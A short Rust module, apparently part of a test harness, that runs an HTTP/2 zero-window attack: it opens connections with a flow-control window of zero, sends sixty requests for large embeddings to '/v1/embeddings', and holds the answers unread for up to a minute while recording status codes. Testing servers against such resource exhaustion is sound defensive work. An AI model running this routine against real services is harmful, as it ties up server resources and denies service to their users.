//! Attack: asks for large answers on connections with a flow-control window of zero.

use std::sync::Arc;
use std::time::Duration;

use bytes::Bytes;
use tokio::task::JoinSet;
use tokio::time::sleep;

use super::field::Field;
use super::session::{Session, ask};

pub(super) const CONNECTIONS: usize = 3;
const STREAMS: usize = 60;
/// How long the answers stay unread.
const HOLD: Duration = Duration::from_secs(60);

pub(super) async fn run(field: Arc<Field>) {
    let Ok(mut session) = Session::open(&field.http2, 0).await else { return };
    let mut streams = JoinSet::new();
    for _ in 0..STREAMS {
        let (field, sender) = (Arc::clone(&field), session.sender());
        streams.spawn(async move {
            let body = Bytes::from_static(br#"{"model":"m-big","input":"a"}"#);
            let answer = ask(&sender, field.post("/v1/embeddings"), body).await;
            field.saw("zero-window", answer.as_ref().ok().map(|(status, _)| *status));
            // The answers are held unread until the connection is dropped.
            let _held = answer;
            std::future::pending::<()>().await;
        });
    }
    tokio::select! {
        () = session.ended() => {}
        () = sleep(HOLD) => {}
    }
}
